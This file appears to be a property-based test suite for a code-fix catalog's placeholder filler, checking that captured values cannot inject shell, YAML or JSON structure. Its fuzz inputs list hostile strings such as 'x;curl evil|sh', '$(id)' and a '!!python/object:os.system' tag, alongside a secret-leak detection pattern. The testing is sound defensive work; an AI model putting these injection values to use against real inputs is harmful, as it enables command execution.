/**
 * A copied fix does what it did before somebody chose the model's name. Every code of every fix is filled with hostile captures, then read by a
 * parser of its language, or character by character where there is none: nothing but the value may have changed.
 */
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import type { Code } from '../../rules/article.ts';
import { captureNames } from '../../rules/engine/captures.ts';
import { fillHole, printable } from '../../rules/engine/fill.ts';
import type { Capture, CaptureType } from '../../rules/finding.ts';
import type { Language } from '../../rules/schema.ts';
import { compileCatalog } from '../../scripts/catalog/load.ts';
import { check, hostileCharacter, hostileText } from './runs.ts';

interface Fix {
  name: string;
  code: Code;
}
let fixes: Fix[] = [];

beforeAll(async () => {
  const { articles } = await compileCatalog();
  fixes = Object.values(articles).flatMap((article) =>
    article.fixes.flatMap((fix) =>
      fix.code.filter(({ tokens }) => tokens.some((token) => 'hole' in token)).map((code) => ({ name: `${article.id}/${fix.id}`, code })),
    ),
  );
}, 60_000);

const types = [
  'number',
  'integer',
  'word',
  'model',
  'provider',
  'class',
  'host',
  'port',
  'url',
  'path',
  'list',
  'version',
  'hash',
  'time',
  'text',
  'line',
] as const satisfies CaptureType[];
const languages = ['shell', 'yaml', 'python', 'json', 'env', 'dockerfile', 'sql', 'http', 'text'] as const satisfies Language[];

/** Mostly innocent, with something hostile somewhere: what passes an allow-list if anything does. */
const value = fc.oneof(
  hostileText,
  fc
    .tuple(fc.stringMatching(/^[A-Za-z0-9][\w./:@-]{0,30}$/), hostileCharacter, fc.stringMatching(/^[\w./:@-]{0,20}$/))
    .map(([before, hostile, after]) => before + hostile + after),
  fc.stringMatching(/^[A-Za-z0-9][\w./:@-]{0,30}$/),
  fc.constantFrom(
    'x;curl evil|sh',
    '$(id)',
    "x' --extra 'y",
    'a"\nevil: true\nb: "',
    '-rf',
    'null',
    'yes',
    '1e3',
    '0x1f',
    '!!python/object:os.system',
    '&a',
    '*a',
    '@file',
    '=cmd',
  ),
);

describe('a captured value in code', () => {
  it.each(languages)(
    'has no character that %s gives a meaning, or stays a placeholder',
    (language) => {
      check(fc.tuple(value, fc.constantFrom(...types), fc.boolean()), ([text, type, quoted]) => {
        const { text: filled, filled: done } = fillHole({ model: { value: text, type } }, 'model', { quoted, language });
        if (!done) return expect(filled).toBe('<model>');
        expect(filled.replace(/^(["'])(.*)\1$/, '$2')).toBe(text);
        expect(text).toMatch(/^[A-Za-z0-9_/][\w./:@-]*$/);
      });
    },
    600_000,
  );

  it('changes a fix of the catalog in its own place only', () => {
    const captures = fc.array(value, { minLength: 12, maxLength: 12 });
    check(
      fc.tuple(fc.nat(), captures),
      ([which, values]) => {
        const { name, code } = fixes[which % fixes.length] as Fix;
        const hostile = fill(code, (hole, index) => ({
          value: values[index % values.length] as string,
          type: captureNames[hole] ?? 'word',
        }));
        const innocent = fill(code, () => undefined);
        if (code.language === 'yaml') expect(shapeOfYaml(hostile.text), name).toEqual(shapeOfYaml(innocent.text));
        if (code.language === 'json') expect(shapeOf(JSON.parse(hostile.text)), name).toEqual(shapeOf(JSON.parse(innocent.text)));
        expect(hostile.text.split('\n').length, `${name}: a value brought a line`).toBe(innocent.text.split('\n').length);
        expect(hostile.between, `${name}: something besides the holes changed`).toEqual(innocent.between);
      },
      3,
    );
  }, 600_000);

  it('reaches prose without control, bidi and zero-width characters', () => {
    check(hostileText, (text) => {
      const shown = printable(text);
      expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(shown.length).toBeLessThanOrEqual(400);
    });
  }, 600_000);
});

describe('no fix of the catalog', () => {
  it('carries a secret to a place that a page can name', () => {
    const careless = fixes.filter(({ code }) => {
      const place = code.tokens.some((token) => 'hole' in token && ['host', 'url', 'api_base', 'server'].includes(token.hole));
      const words = code.tokens.map((token) => ('hole' in token ? '' : token.text)).join('');
      return place && code.language === 'shell' && /\$\{?\w*(KEY|TOKEN|SECRET|PASSWORD)|Authorization/i.test(words);
    });
    expect(
      careless.map(({ name }) => name),
      'write the place as a placeholder of your own, such as YOUR_HOST',
    ).toEqual([]);
  });
});

function fill(code: Code, captureOf: (hole: string, index: number) => Capture | undefined): { text: string; between: string[] } {
  let index = 0;
  const between: string[] = [];
  const text = code.tokens
    .map((token) => {
      if (!('hole' in token)) {
        between.push(token.text);
        return token.text;
      }
      const capture = captureOf(token.hole, index++);
      return fillHole(capture ? { [token.hole]: capture } : {}, token.hole, { quoted: token.quoted, language: code.language }).text;
    })
    .join('');
  return { text, between };
}

function shapeOfYaml(text: string): unknown {
  return parseAllDocuments(text).map((document) => {
    if ('errors' in document && document.errors.length > 0) return document.errors.map(({ code }) => code);
    return shapeOf(document.toJS());
  });
}

/** Keys and nesting, without what stands in them. A filled number may take the place of a placeholder's text. */
function shapeOf(data: unknown): unknown {
  if (Array.isArray(data)) return data.map(shapeOf);
  if (data === null || typeof data !== 'object') return 'value';
  return Object.entries(data).map(([key, inner]) => [/^<[\w-]+>$|^[A-Za-z0-9_/][\w./:@-]*$/.test(key) ? 'key' : key, shapeOf(inner)]);
}
